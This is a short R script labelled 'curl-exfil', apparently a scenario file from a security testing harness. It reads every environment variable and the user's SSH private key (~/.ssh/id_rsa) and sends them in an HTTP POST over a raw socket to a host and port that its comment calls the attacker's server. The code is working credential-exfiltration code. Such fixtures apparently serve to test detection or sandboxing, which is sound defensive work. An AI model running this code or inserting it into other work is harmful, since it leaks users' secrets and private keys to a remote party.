# curl-exfil (R): POST Sys.getenv() and ~/.ssh/id_rsa to the attacker's
# server over a socketConnection (base R, no httr needed), the seed
# scenario's httr::POST of the user's keys.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })

e <- Sys.getenv()
body <- paste0(names(e), "=", e)
for (key in c(path.expand("~/.ssh/id_rsa"), file.path(T[["T_HOME"]], ".ssh/id_rsa")))
  if (file.exists(key)) body <- c(body, readLines(key, warn = FALSE))
body <- paste(body, collapse = "\n")
con <- socketConnection(T[["T_TCP_HOST"]], as.integer(T[["T_TCP_PORT"]]),
                        blocking = TRUE, open = "r+b", timeout = 5)
writeLines(c("POST /upload HTTP/1.0", paste("Content-Length:", nchar(body, "bytes")),
             "", body), con, sep = "\r\n")
close(con)
